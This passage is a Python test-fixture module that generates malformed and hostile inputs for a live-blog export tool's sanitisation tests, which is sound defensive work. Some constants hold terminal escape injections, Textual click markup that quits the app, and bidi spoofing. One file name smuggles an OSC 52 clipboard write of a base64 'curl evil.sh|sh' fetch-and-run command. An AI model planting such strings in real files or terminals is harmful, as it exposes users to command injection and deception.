"""The catalogue of bad inputs (issue 6), written on demand into a directory.

Nothing here is committed as a large file: every entry is a small function that writes
its input (or makes its directory, FIFO, symlink loop...) under a given folder and
returns the path to hand to `liveblog export`. The large entries (a 200 MB text file,
a single 50 MB line) are built by streaming, so they never sit whole in this process.

Each entry says what a correct program does with it:
- "ok": exit 0, a clean result;
- "error": exit 2 and one stderr line naming the file;
- "either": one of the two (both are honest answers, e.g. a 1-byte file).

`bench/fuzz/fuzz_*.py` reuse the generators.
"""

from __future__ import annotations

import codecs
import gzip
import os
import random
import socket
import stat
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

REPO_ROOT = Path(__file__).resolve().parents[1]
SAMPLE = REPO_ROOT / "sample_articles" / "telegraph-2017-04-12-trump-russia-nato.txt"

Expect = Literal["ok", "error", "either"]

# Hostile text: Textual/Rich markup, terminal escapes (CSI, OSC with and without a
# terminator, 8-bit CSI), bidi overrides and isolates, and an emoji family joined by ZWJs.
ESC = "\x1b"
FAMILY_EMOJI = "\U0001f468\u200d\U0001f469\u200d\U0001f467"  # man ZWJ woman ZWJ girl
HOSTILE_TITLE = f"Breaking [@click=app.quit]click me[/] {ESC}[31mred{ESC}[0m news"
HOSTILE_LINES: tuple[str, ...] = (
    "[bold red]Minister resigns[/bold red] after [/] vote",
    f"Markup [@click=app.quit]quit[/] and [link=https://evil.example]x[/link] {FAMILY_EMOJI} family",
    f"ANSI {ESC}[2J{ESC}[H cleared screen {ESC}[38;5;196mcolour{ESC}[0m and 8-bit \x9b31m csi",
    f"OSC title {ESC}]0;pwned{ESC}\\ hyperlink {ESC}]8;;https://evil.example\x07link{ESC}]8;;\x07 done",
    "Bidi \u202eevil.exe\u202c and isolate \u2066txt\u2069 and \u200f rlm marks",
    "Controls \x00nul \x07bel \x08bs \x0bvt \x0cff \x7fdel \x85nel end",
    f"Unterminated OSC at the end {ESC}]0;title never ends",
)

# Characters that must appear in no output field: C0 (bar tab/newline), DEL, C1, ESC,
# the bidi embedding/override/isolate controls, and lone surrogates; since issue 14 also the
# line/paragraph separators, the bidi marks, the invisible word-splitters (soft hyphen, zero-width
# space, word joiner...) and the Unicode tag characters. Zero-width joiners are allowed: they
# hold emoji sequences together.
INVISIBLE_CHARS = frozenset(
    ["\u00ad", "\u061c", "\u180e", "\u200b", "\u200e", "\u200f", "\u2028", "\u2029", "\ufffa", "\ufff9",
     "\ufffb"]
    + [chr(c) for c in range(0x2060, 0x2065)]
    + [chr(c) for c in range(0xE0000, 0xE0080)]
)
FORBIDDEN_CHARS = frozenset(
    [chr(c) for c in range(0x00, 0x20) if c not in (0x09, 0x0A)]
    + [chr(c) for c in range(0x7F, 0xA0)]
    + [chr(c) for c in range(0x202A, 0x202F)]
    + [chr(c) for c in range(0x2066, 0x206A)]
    + [chr(c) for c in range(0xD800, 0xE000)]  # lone surrogates: not text, cannot be encoded
) | INVISIBLE_CHARS


@dataclass(frozen=True)
class BadInput:
    """One catalogue entry: how to build it, what a correct program does, what it needs."""

    name: str
    description: str
    build: Callable[[Path], Path]
    expect: Expect
    needs: str | None = None  # "html": skip until the HTML parser exists; "root-drop", "fifo"
    args: tuple[str, ...] = ()  # extra `liveblog export` arguments; "{dir}" is the input's folder
    large: bool = False  # slow to build and parse: built once per test session
    names: str | None = None  # what an error line must name, when not the input ("{dir}" as in args)
    # "export": an input for `liveblog export` (tests/test_catalogue.py runs them all); "state": the
    # builder makes a data dir (its argument) holding the oddity, for tui.state; "reader": a
    # situation in the reader, run by the test named in the description.
    kind: Literal["export", "state", "reader"] = "export"


# ---------------------------------------------------------------- small writers


def _write(name: str, data: bytes) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(data)
        return path

    return build


def sample_text() -> str:
    """Return the bundled Telegraph sample as text."""
    return SAMPLE.read_text(encoding="utf-8")


def timed_text(lines: tuple[str, ...] = ()) -> str:
    """Return a small live blog in copied-text form with three timestamped updates.

    `lines` are extra paragraphs put in the second update.
    """
    extra = "\n\n".join(lines)
    return (
        "Live: council vote on the new bridge\n\n"
        "Follow the latest from the town hall.\n\n"
        "10:15\n\nVote delayed\n\nThe vote has been put back by an hour.\n\n"
        f"09:40\n\nCouncillors arrive\n\n{extra}\n\n"
        "09:02\n\nDebate opens\n\nThe mayor opened the debate.\n"
    )


def png_bytes() -> bytes:
    """Return a valid 1x1 PNG image."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def random_bytes(n: int, seed: int = 6) -> bytes:
    """Return `n` reproducible pseudo-random bytes."""
    return random.Random(seed).randbytes(n)


def with_nuls(text: str, every: int = 97) -> bytes:
    """Return `text` as UTF-8 with a NUL byte inserted every `every` characters."""
    return "\x00".join(text[i : i + every] for i in range(0, len(text), every)).encode("utf-8")


CP1252_TEXT = (
    "Caf\xe9 owners say \x93prices\x94 rose by \x8030 \x96 a \x91record\x92\n\n"
    "10:00\n\nNa\xefve question\n\nThe r\xe9sum\xe9 was sent.\n"
).encode("latin-1")  # bytes as Windows-1252 writes them (0x80 euro, 0x93/0x94 quotes)
MIXED_UTF8_CP1252 = "Caf\u00e9 in UTF-8 first\n\n10:00\n\nHeadline \u2013 UTF-8\n\n".encode() + (
    b"Then a line in Windows-1252: na\xefve \x93quoted\x94\n"
)
# 0x81, 0x8D, 0x8F, 0x90, 0x9D are undefined in Windows-1252 and invalid as UTF-8 starts.
INVALID_EVERYWHERE = b"Title line\n\n10:00\n\nBody with \x81\x8d\x8f\x90\x9d bytes\n"
TRUNCATED_UTF8 = "Live: caf\u00e9 news\n\n10:00\n\nPrices in \u20ac".encode()[:-2]
INVALID_UTF8_LATIN = b"Title\n\n10:00\n\nInvalid sequence \xc3\x28 and \xe2\x82 here\n"

TIMESTAMP_TEXT = (
    "Overnight live blog\n\n"
    "25:99\n\nNot a real time: this line must stay body text.\n\n"
    "23:50\n\nLate\n\nBefore midnight.\n\n"
    "0:00\n\nMidnight\n\nOn the stroke of midnight.\n\n"
    "00:30\n\nAfter midnight\n\nHalf past.\n\n"
    "23:55\n\nBackwards\n\nA correction posted out of order.\n\n"
    "12:00 am\n\nAlso midnight\n\nTwelve am.\n\n"
    "12:60\n\nSixty minutes is not a minute.\n\n"
    "99:00\n\nNinety-nine hours is not a time.\n\n"
    "13:00 pm\n\nThirteen pm is not a time.\n\n"
    "2017-02-30T10:00\n\nThe thirtieth of February is not a date.\n"
)


# ---------------------------------------------------------------- file-system oddities


def _directory(folder: Path) -> Path:
    path = folder / "a-directory"
    path.mkdir()
    (path / "inside.txt").write_text("10:00\n\nhello\n")
    return path


def _missing(folder: Path) -> Path:
    return folder / "does-not-exist.txt"


def _unreadable(folder: Path) -> Path:
    path = folder / "unreadable.txt"
    path.write_text(timed_text())
    path.chmod(0)
    return path


def _symlink_loop(folder: Path) -> Path:
    a, b = folder / "loop-a", folder / "loop-b"
    a.symlink_to(b)
    b.symlink_to(a)
    return a


def _dangling_symlink(folder: Path) -> Path:
    path = folder / "dangling"
    path.symlink_to(folder / "nowhere")
    return path


def _fifo(folder: Path) -> Path:
    path = folder / "a-fifo"
    os.mkfifo(path)
    return path


def _device(folder: Path) -> Path:
    path = folder / "zero-device"
    path.symlink_to("/dev/zero")
    return path


def _socket(folder: Path) -> Path:
    path = folder / "a-socket"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    server.close()  # the socket file stays on disk
    return path


def _hostile_filename(folder: Path) -> Path:
    # An empty file whose name holds a newline and an escape sequence: the error must
    # still be one line and must not carry the escape to the terminal.
    path = folder / f"evil\nname{ESC}[31m.txt"
    path.write_bytes(b"")
    return path


def _over_limit(folder: Path) -> Path:
    path = folder / "over-limit.txt"
    with path.open("w", encoding="utf-8") as handle:
        for _ in range(40):
            handle.write(timed_text())
    return path


# ---------------------------------------------------------------- large inputs (streamed)


def large_text_chunks(size: int) -> Iterator[bytes]:
    """Yield UTF-8 live-blog text totalling exactly `size` bytes: many timestamped updates.

    Updates run newest first from 23:59 back, a minute apart, with a headline and two
    paragraphs each, so the text parser does its full work on every update.
    """
    written = 0
    minute = 0
    header = b"A very long live blog\n\nIntroduction paragraph for the long blog.\n\n"
    yield header
    written += len(header)
    while written < size:
        clock = 24 * 60 - 1 - (minute % (24 * 60))
        minute += 1
        block = (
            f"{clock // 60:02d}:{clock % 60:02d}\n\n"
            f"Update number {minute} on the caf\u00e9 story\n\n"
            f"The minister said \u201cwe will act\u201d as update {minute} came in from the "
            "chamber, where members were debating the motion late into the night.\n\n"
            "Share this post\n\n"
            "A second paragraph with more detail, names such as Boris Johnson and Rex Tillerson, "
            "and a figure of \u00a312m for good measure.\n\n"
        ).encode()
        block = block[: size - written]
        yield block
        written += len(block)


def single_line_chunks(size: int) -> Iterator[bytes]:
    """Yield one line of `size` bytes of words with no newline at all."""
    piece = b"word after word, and a time 10:00 inside the sentence; " * 1024
    written = 0
    while written < size:
        block = piece[: size - written]
        yield block
        written += len(block)


def write_chunks(path: Path, chunks: Iterator[bytes]) -> Path:
    """Write the chunks to `path` and return it."""
    with path.open("wb") as handle:
        for chunk in chunks:
            handle.write(chunk)
    return path


MB = 1024 * 1024


def _large_text(folder: Path) -> Path:
    return write_chunks(folder / "large-200mb.txt", large_text_chunks(200 * MB))


def _long_line(folder: Path) -> Path:
    return write_chunks(folder / "line-50mb.txt", single_line_chunks(50 * MB))


# ---------------------------------------------------------------- HTML and JSON-LD


def deep_html(depth: int = 100_000) -> bytes:
    """Return an HTML page whose body nests `depth` <div>s around one timestamped update."""
    return (
        b"<!doctype html><html><head><title>Deep</title></head><body>"
        + b"<div>" * depth
        + b"<p>10:00</p><p>Deep inside the page.</p>"
        + b"</div>" * depth
        + b"</body></html>"
    )


def unclosed_script_html() -> bytes:
    """Return a page whose <script> is never closed, so it swallows the rest of the page."""
    return (
        b"<!doctype html><html><head><title>Swallowed page</title>"
        b"<script>var x = '<div class=\"update\">';\n"
        b"</head><body><article><h1>Swallowed page</h1>"
        b"<div class='block'><time>10:00</time><p>Text inside the script.</p></div>"
        b"</article></body></html>"
    )


def jsonld_page(script_body: str) -> bytes:
    """Return a small live-blog page carrying `script_body` as its JSON-LD."""
    return (
        "<!doctype html><html><head><title>JSON-LD page</title>"
        f'<script type="application/ld+json">{script_body}</script></head>'
        "<body><article><h1>JSON-LD page</h1>"
        "<div class='block'><time datetime='2024-05-01T10:00:00Z'>10:00</time>"
        "<p>An update in the HTML.</p></div></article></body></html>"
    ).encode()


JSONLD_INVALID = '{"@type": "LiveBlogPosting", "headline": "Broken", "liveBlogUpdate": [{"@type": '
JSONLD_CYCLIC = (
    '{"@context": "https://schema.org", "@graph": ['
    '{"@id": "#blog", "@type": "LiveBlogPosting", "headline": "Cyclic", "about": {"@id": "#a"},'
    ' "liveBlogUpdate": [{"@id": "#u1"}], "isPartOf": {"@id": "#blog"}},'
    '{"@id": "#a", "@type": "Thing", "subjectOf": {"@id": "#blog"}, "sameAs": {"@id": "#a"}},'
    '{"@id": "#u1", "@type": "BlogPosting", "headline": "Update one", "articleBody": "Body one",'
    ' "datePublished": "2024-05-01T10:00:00Z", "isPartOf": {"@id": "#blog"}, "mainEntity": {"@id": "#u1"}}'
    "]}"
)


def jsonld_huge(updates: int = 20_000, depth: int = 5_000) -> str:
    """Return valid JSON-LD with many updates and one very deeply nested value."""
    items = ",".join(
        f'{{"@type": "BlogPosting", "headline": "U{i}", "articleBody": "Body {i}",'
        f' "datePublished": "2024-05-01T{(i // 60) % 24:02d}:{i % 60:02d}:00Z"}}'
        for i in range(updates)
    )
    nested = '{"a":' * depth + "1" + "}" * depth
    return (
        f'{{"@type": "LiveBlogPosting", "headline": "Huge", "deep": {nested},'
        f' "liveBlogUpdate": [{items}]}}'
    )


def jsonld_deep_array(depth: int = 200_000) -> str:
    """Return JSON nested deeper than Python's json module can follow (RecursionError)."""
    return "[" * depth + "]" * depth


# Found by bench/fuzz/fuzz_html.py (minimised by hand).
NAMED_ZONE_HTML = (
    b"<!doctype html><html><head><title>Zones live</title></head><body><article><h1>Zones live</h1>"
    b'<div class="block"><time>10:00 BST</time><p>One update here.</p></div>'
    b'<div class="block"><time>09:00 BST</time><p>Two update here.</p></div>'
    b'<div class="block"><time>08:00 BST</time><p>Three update here.</p></div>'
    b"</article></body></html>"
)
CONTROL_URL_HTML = (
    b'<!doctype html><html><head><title>Ctl live</title><link rel="canonical" '
    b'href="https://votes.example.com/a\x01b\x1b[31m"></head><body><article><h1>Ctl live</h1>'
    b'<div class="block"><time datetime="2024-05-01T10:00:00Z">10:00</time>'
    b'<p>One <a href="https://x.example/\x1b]0;pwned\x07y">link</a>.</p></div>'
    b'<div class="block"><time datetime="2024-05-01T09:00:00Z">09:00</time><p>Two.</p></div>'
    b"</article></body></html>"
)
MHTML_RAW_HEADER = (
    b"From: <Saved by Blink>\r\nSnapshot-Content-Location: https://city.example.de/\xfflive\r\n"
    b'MIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="B"\r\n\r\n'
    b"--B\r\nContent-Type: text/html\r\nContent-Location: https://city.example.de/\xff\xfelive\r\n\r\n"
    b"<html><body><article><h1>Live</h1><div class='block'><time datetime='2024-05-01T10:00:00Z'>10:00</time>"
    b"<p>One.</p></div></article></body></html>\r\n--B--\r\n"
)
MHTML_TRUNCATED = (
    b"From: <Saved by Blink>\r\nSubject: Live\r\nMIME-Version: 1.0\r\n"
    b'Content-Type: multipart/related; type="text/html"; boundary="----B"\r\n\r\n'
    b"------B\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
    b"<html><body><article><p>10:00</p><p>Cut off mid=\r\n"
)
MHTML_NO_BOUNDARY = (
    b"MIME-Version: 1.0\r\nContent-Type: multipart/related; type=\"text/html\"\r\n\r\n"
    b"<html><body>no parts at all</body></html>\r\n"
)


# ---------------------------------------------------------------- issue 14: not article text, deep, odd

# A file name carrying OSC 52 (write "curl evil.sh|sh" to the terminal's clipboard) and OSC 0 (set
# the window title): harmless only if every display and export cleans it.
ESCAPES_NAME = f"b{ESC}]52;c;Y3VybCBldmlsLnNofHNo\x07{ESC}]0;pwned\x07.html"
# A page without <title> or <h1>: the path stands in for the title in the reader and the exports.
TITLELESS_HTML = (
    b"<!doctype html><html><body><article>"
    b"<div class='block'><time datetime='2024-05-01T10:00:00Z'>10:00</time><p>One update from the Kremlin.</p></div>"
    b"<div class='block'><time datetime='2024-05-01T09:00:00Z'>09:00</time><p>Two updates.</p></div>"
    b"</article></body></html>"
)
HOSTILE_TOPIC = f"Evil{ESC}]0;pwned\x07 {ESC}[31mRed\u202e topic"
# Every invisible character the cleaning removes or turns into a newline (finding 11).
INVISIBLES_TEXT = timed_text((
    "Line\u2028separator and paragraph\u2029separator",
    "Lav\u200brov, Lav\u00adrov, Lav\u2060rov and Lav\u200drov said so",
    "Marks \u200eleft\u200f right \u061c and \u180e Mongolian",
    "Visible\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 text and a flag \U0001f3f4\U000e0067\U000e0062"
    "\U000e0065\U000e006e\U000e0067\U000e007f",
    "Annotation \ufff9base\ufffaruby\ufffb end",
))


# Article text that would restructure a Markdown export if copied as it is: rules, setext
# underlines, list markers, strikethrough, and a link whose URL holds "<", ">" and "\\".
MARKDOWN_STRUCTURE_HTML = (
    b"<!doctype html><html><head><title>Markdown --- live</title></head><body><article><h1>Markdown --- live</h1>"
    b"<div class='block'><time datetime='2024-05-01T10:00:00Z'>10:00</time><h2>1. Not a list</h2>"
    b"<p>---</p><p>1. First point of the speech</p><p>- a bullet that is not one</p><p>~~struck out~~ text</p>"
    b"<p>===</p><p>+ plus item</p><p>2) paren item</p><p>* star item</p><p>&gt; a quote that is not one</p>"
    b"<p>A link <a href='https://x.example/a<b>c\\d'>here</a> and text.</p></div>"
    b"<div class='block'><time datetime='2024-05-01T09:00:00Z'>09:00</time><p>Setext heading above?</p>"
    b"<p>---</p></div></article></body></html>"
)
# A blog whose last update (the first line, newest first) comes after midnight.
MIDNIGHT_TEXT = "Overnight vote\n\n00:30\n\nAfter midnight\n\nHalf past.\n\n23:50\n\nBefore\n\nLate.\n"


def _escapes_filename(folder: Path) -> Path:
    path = folder / ESCAPES_NAME
    path.write_bytes(TITLELESS_HTML)
    return path


def _escapes_topic_name(folder: Path) -> Path:
    def toml_string(text: str) -> str:
        return '"' + "".join(c if c.isprintable() else f"\\u{ord(c):04x}" for c in text) + '"'

    (folder / "topics.toml").write_text(
        f'[topics.{toml_string(HOSTILE_TOPIC)}]\ninclude = ["Kremlin", {toml_string("cyber" + ESC + "[2J")}]\n',
        encoding="utf-8",
    )
    path = folder / "kremlin.txt"
    path.write_text(timed_text(("The Kremlin denied it.",)), encoding="utf-8")
    return path


# The README's example topics file (section "Topics").
README_TOPICS = """\
[topics."Cyber"]
include = ["cyber", "hacking", "hack*"]
exclude = ["cyber monday"]

[topics."Moscow"]
include = ["Moscow", "Kremlin"]
"""
# Each paragraph holds an exclude match ("Cyber Monday") and two include matches of the same topic.
EXCLUDE_HEAVY_PARAGRAPH = ("Shoppers hunted Cyber Monday deals while a cyber attack hit the retailer "
                           "and hacking went on.")


def exclude_heavy_text(size: int) -> str:
    """Return a text live blog whose one update is about `size` characters of `EXCLUDE_HEAVY_PARAGRAPH`."""
    count = max(1, size // (len(EXCLUDE_HEAVY_PARAGRAPH) + 2))
    body = "\n\n".join([EXCLUDE_HEAVY_PARAGRAPH] * count)
    return f"A huge update\n\n10:00\n\nHeadline of the update\n\n{body}\n"


def nested_mhtml(depth: int = 1000) -> bytes:
    """Return an MHTML archive whose HTML page sits inside `depth` nested multiparts."""
    parts = [b'From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="B0"\r\n\r\n']
    for level in range(1, depth):
        parts.append(b'--B%d\r\nContent-Type: multipart/related; boundary="B%d"\r\n\r\n' % (level - 1, level))
    parts.append(b"--B%d\r\nContent-Type: text/html\r\n\r\n<html><body><article><h1>Deep</h1><div class='block'>"
                 b"<time datetime='2024-05-01T10:00:00Z'>10:00</time><p>Inside.</p></div></article></body></html>\r\n"
                 % (depth - 1))
    parts.extend(b"--B%d--\r\n" % level for level in range(depth - 1, -1, -1))
    return b"".join(parts)


def _with_topics(toml: str, text: str) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        (folder / "topics.toml").write_text(toml, encoding="utf-8")
        path = folder / "article.txt"
        path.write_text(text, encoding="utf-8")
        return path

    return build


# ---------------------------------------------------------------- type mutations of JSON-shaped input
#
# Structured input (the Guardian's CMS JSON, JSON-LD in a page) is validated by type where it is
# read. These generators take a valid document and put a value of another type at some path:
# the byte fuzzers rarely produce valid JSON with a wrong type, so `bench/fuzz_types.py` and
# tests/test_hostile_input.py use these instead.

JsonPath = tuple[str | int, ...]


def cms_block(ident: str, epoch_ms: int, display: str, title: str | None, html: str) -> dict[str, Any]:
    """Return one Guardian CMS JSON block: text, an image with a caption, a rich link."""
    return {
        "id": ident, "blockFirstPublished": epoch_ms, "blockFirstPublishedDisplay": display,
        "blockLastUpdated": epoch_ms + 60_000, "title": title, "contributors": [{"name": "Ann Lee"}],
        "attributes": {"pinned": False, "keyEvent": True, "summary": False},
        "elements": [
            {"_type": "model.dotcomrendering.pageElements.TextBlockElement", "html": html},
            {"_type": "model.dotcomrendering.pageElements.ImageBlockElement",
             "data": {"caption": "The Commons.", "credit": "Photograph: PA"}},
            {"_type": "model.dotcomrendering.pageElements.RichLinkBlockElement",
             "url": "https://www.theguardian.com/politics/x", "text": "Related story"},
        ],
    }


def cms_json_document() -> dict[str, Any]:
    """Return a small valid Guardian CMS JSON model: two blocks, a pinned post, key events."""
    blocks = [
        cms_block("b2", 1704888000000, "12.00\u00a0GMT", "Vote passes", "<p>The bill passed by 20 votes.</p>"),
        cms_block("b1", 1704884400000, "11.00\u00a0GMT", None, "<p>MPs are voting now.</p>"),
    ]
    pinned = cms_block("b0", 1704880800000, "10.00\u00a0GMT", "Pinned", "<p>Welcome.</p>")
    return {
        "headline": "Politics live", "webTitle": "Politics live", "standfirst": "<p>All the news.</p>",
        "pinnedPost": pinned, "keyEvents": blocks, "blocks": blocks,
        "canonicalUrl": "https://www.theguardian.com/politics/live/2024/jan/10/example-live",
        "webURL": "https://www.theguardian.com/politics/live/2024/jan/10/example-live",
        "webPublicationDate": "2024-01-10T12:05:00.000Z",
    }


def jsonld_document() -> dict[str, Any]:
    """Return a small valid LiveBlogPosting JSON-LD object with three updates."""
    updates = [
        {"@type": "BlogPosting", "@id": f"#u{i}", "headline": f"Update {i}", "articleBody": f"Body of update {i}.",
         "datePublished": f"2024-05-01T{10 - i:02d}:00:00+01:00", "dateModified": "2024-05-01T12:00:00Z",
         "author": {"@type": "Person", "name": "Ann Lee"}, "url": f"https://news.example.com/live#u{i}",
         "mainEntityOfPage": {"@id": "https://news.example.com/live"}}
        for i in range(3)
    ]
    return {
        "@context": "https://schema.org", "@type": "LiveBlogPosting", "@id": "https://news.example.com/live",
        "headline": "Vote live", "description": "Follow the vote.", "url": "https://news.example.com/live",
        "datePublished": "2024-05-01T08:00:00Z", "dateModified": "2024-05-01T12:00:00Z",
        "coverageStartTime": "2024-05-01T08:00:00Z", "publisher": {"@type": "Organization", "name": "News"},
        "about": {"@type": "Event", "name": "The vote", "startDate": "2024-05-01"},
        "mainEntityOfPage": {"@type": "WebPage", "@id": "https://news.example.com/live"},
        "liveBlogUpdate": updates,
    }


# Values of every JSON type, and the odd ones of each: 1e400 is read back as infinity, 10**400
# as a 401-digit int, a lone surrogate as a str that cannot be encoded.
TYPE_MUTANTS: tuple[Any, ...] = (
    None, True, False, 0, -1, 1.5, 10**400, float("inf"), float("-inf"), float("nan"), "", "abc", "1e400", "-5",
    "99999999999999999999", "2024-13-45T25:61:00Z", "\ud800", f"{ESC}]0;pwned\x07", [], [5], ["x"], [None],
    [[[]]], {}, {"a": 1}, {"@id": "#u0"}, {"@list": [1]}, {"@value": 5}, {"name": [1]},
)


def json_paths(document: Any) -> list[JsonPath]:
    """Return the path of every value inside `document` (objects by key, arrays by index), without recursion."""
    paths: list[JsonPath] = []
    stack: list[tuple[JsonPath, Any]] = [((), document)]
    while stack:
        path, value = stack.pop()
        if path:
            paths.append(path)
        if isinstance(value, dict):
            stack.extend(((*path, key), item) for key, item in value.items())
        elif isinstance(value, list):
            stack.extend(((*path, index), item) for index, item in enumerate(value))
    return sorted(paths, key=repr)


def mutate(document: Any, path: JsonPath, replacement: Any, *, delete: bool = False) -> Any:
    """Return a deep copy of `document` with the value at `path` replaced (or deleted from its object)."""
    import copy

    result = copy.deepcopy(document)
    parent = result
    for step in path[:-1]:
        parent = parent[step]
    last = path[-1]
    if delete and isinstance(parent, dict):
        del parent[last]
    else:
        parent[last] = copy.deepcopy(replacement)
    return result


def json_text(document: Any) -> bytes:
    """Return `document` as JSON bytes (non-ASCII as \\u escapes, so a lone surrogate is valid JSON text;
    Infinity and NaN as Python writes them)."""
    import json

    return json.dumps(document).encode("ascii")


def _cms_wrong_types() -> dict[str, Any]:
    """Return the CMS JSON document with every mistyped value of issue 14, finding 6."""
    doc = cms_json_document()
    doc["canonicalUrl"], doc["webURL"] = 12345, {"href": "https://x.example/"}
    blocks = doc["blocks"]
    blocks[0]["id"] = ["b2"]
    blocks[0]["blockFirstPublished"] = "abc"
    blocks[1]["blockFirstPublished"] = float("inf")  # written as Infinity; 1e400 in the file reads the same
    doc["pinnedPost"]["blockFirstPublished"] = [5]
    blocks[1]["contributors"] = 7
    blocks[0]["elements"][2]["url"] = 42
    return doc


def _jsonld_wrong_types() -> dict[str, Any]:
    doc = jsonld_document()
    doc["headline"] = 5
    doc["url"] = {"a": 1}
    doc["liveBlogUpdate"][0]["datePublished"] = [5]
    doc["liveBlogUpdate"][1]["author"] = [1, 2]
    doc["liveBlogUpdate"][2]["headline"] = {"@value": 5}
    return doc


# ---------------------------------------------------------------- state files and the data dir (issue 14)

STATE_KEY = "/articles/state-test.txt"  # the article whose state file the "state" entries replace


def _state_file(root: Path) -> Path:
    from tui.state import state_path

    path = state_path(STATE_KEY, root)
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def _state_fifo(root: Path) -> Path:
    path = _state_file(root)
    os.mkfifo(path)
    return path


def _state_dev_zero(root: Path) -> Path:
    path = _state_file(root)
    path.symlink_to("/dev/zero")
    return path


def _state_oversized(root: Path) -> Path:
    path = _state_file(root)
    with path.open("wb") as handle:
        handle.truncate(40 * MB)  # sparse: 40 MB long, nothing on disk
    return path


def _state_directory(root: Path) -> Path:
    path = _state_file(root)
    path.mkdir()
    return path


def _stale_temporaries(root: Path) -> Path:
    """Leave what `kill -9` during saves and exports leaves, an hour old, beside files to keep."""
    (root / "state").mkdir(parents=True, exist_ok=True)
    (root / "exports").mkdir(parents=True, exist_ok=True)
    old = os.path.getmtime(root) - 3600
    left = root / "state" / ".abc.json.x1y2z3.tmp"
    for path in (left, root / "exports" / ".x.md.old999.tmp", root / "state" / "notes.tmp",
                 root / "state" / "keep.json"):
        path.write_text("{}")
        os.utime(path, (old, old))
    (root / "state" / ".link.tmp").symlink_to(root / "state" / "keep.json")
    os.utime(root / "state" / ".link.tmp", (old, old), follow_symlinks=False)
    return left


def _sample_copy(folder: Path) -> Path:
    path = folder / SAMPLE.name
    path.write_bytes(SAMPLE.read_bytes())
    return path


def _non_utf8_filename(folder: Path) -> Path:
    path = Path(os.fsdecode(os.path.join(os.fsencode(folder), b"caf\xe9.txt")))
    path.write_text(timed_text(), encoding="utf-8")
    return path


# ---------------------------------------------------------------- the catalogue


def _cat() -> list[BadInput]:
    sample = sample_text()
    return [
        BadInput("empty", "0-byte file", _write("empty.txt", b""), "error"),
        BadInput("whitespace", "spaces, tabs and newlines only", _write("ws.txt", b" \t\r\n \n\n\t "), "error"),
        BadInput("one-byte-letter", "1-byte file 'x'", _write("one-x.txt", b"x"), "either"),
        BadInput("one-byte-newline", "1-byte file '\\n'", _write("one-nl.txt", b"\n"), "error"),
        BadInput("one-byte-nul", "1-byte file NUL", _write("one-nul.txt", b"\x00"), "either"),
        BadInput("one-byte-ff", "1-byte file 0xFF", _write("one-ff.txt", b"\xff"), "either"),
        BadInput("png", "a PNG image", _write("image.txt", png_bytes()), "error"),
        BadInput("gzip", "gzip of the sample", _write("sample.txt.gz", gzip.compress(sample.encode())), "error"),
        BadInput("random", "64 KB of random bytes", _write("random.bin", random_bytes(65536)), "error"),
        BadInput("nul-in-text", "sample with a NUL every 97 characters", _write("nuls.txt", with_nuls(sample)),
                 "ok"),
        BadInput("nul-sparse", "one NUL inside a timed text", _write("nul1.txt",
                 timed_text(("Before\x00after the NUL",)).encode()), "ok"),
        BadInput("utf16-le-bom", "sample as UTF-16 LE with BOM",
                 _write("utf16le.txt", codecs.BOM_UTF16_LE + sample.encode("utf-16-le")), "ok"),
        BadInput("utf16-be-bom", "sample as UTF-16 BE with BOM",
                 _write("utf16be.txt", codecs.BOM_UTF16_BE + sample.encode("utf-16-be")), "ok"),
        BadInput("utf32-bom", "sample as UTF-32 with BOM", _write("utf32.txt", sample.encode("utf-32")), "ok"),
        BadInput("utf8-bom", "sample as UTF-8 with BOM", _write("utf8bom.txt", codecs.BOM_UTF8 + sample.encode()),
                 "ok"),
        BadInput("utf16-no-bom", "UTF-16 LE without a BOM", _write("utf16nobom.txt", sample.encode("utf-16-le")),
                 "either"),
        BadInput("utf16-odd-length", "UTF-16 BOM with an odd byte count (truncated)",
                 _write("utf16odd.txt", (codecs.BOM_UTF16_LE + sample.encode("utf-16-le"))[:-1]), "either"),
        BadInput("cp1252", "Windows-1252 text", _write("cp1252.txt", CP1252_TEXT), "ok"),
        BadInput("mixed-utf8-cp1252", "UTF-8 lines then a Windows-1252 line",
                 _write("mixed.txt", MIXED_UTF8_CP1252), "ok"),
        BadInput("invalid-utf8-latin", "invalid UTF-8 sequences that are valid Windows-1252",
                 _write("invalid-latin.txt", INVALID_UTF8_LATIN), "ok"),
        BadInput("invalid-everywhere", "bytes invalid in UTF-8 and undefined in Windows-1252",
                 _write("invalid.txt", INVALID_EVERYWHERE), "error"),
        BadInput("truncated-utf8", "file cut in the middle of a UTF-8 character",
                 _write("truncated-utf8.txt", TRUNCATED_UTF8), "ok"),
        BadInput("truncated-download", "first half of the sample, cut mid-line",
                 _write("truncated.txt", sample.encode()[: len(sample.encode()) // 2]), "ok"),
        BadInput("crlf", "sample with CRLF line ends", _write("crlf.txt", sample.replace("\n", "\r\n").encode()),
                 "ok"),
        BadInput("cr-only", "timed text with old-Mac CR line ends",
                 _write("cr.txt", timed_text().replace("\n", "\r").encode()), "ok"),
        BadInput("directory", "a directory", _directory, "error"),
        BadInput("missing", "a path that does not exist", _missing, "error"),
        BadInput("unreadable", "a file without read permission", _unreadable, "error", needs="unprivileged"),
        BadInput("symlink-loop", "two symlinks pointing at each other", _symlink_loop, "error"),
        BadInput("dangling-symlink", "a symlink to nothing", _dangling_symlink, "error"),
        BadInput("fifo", "a named pipe nobody writes to", _fifo, "error"),
        BadInput("device", "a symlink to /dev/zero", _device, "error"),
        BadInput("socket", "a Unix socket file", _socket, "error"),
        BadInput("hostile-filename", "empty file named with a newline and an escape sequence",
                 _hostile_filename, "error"),
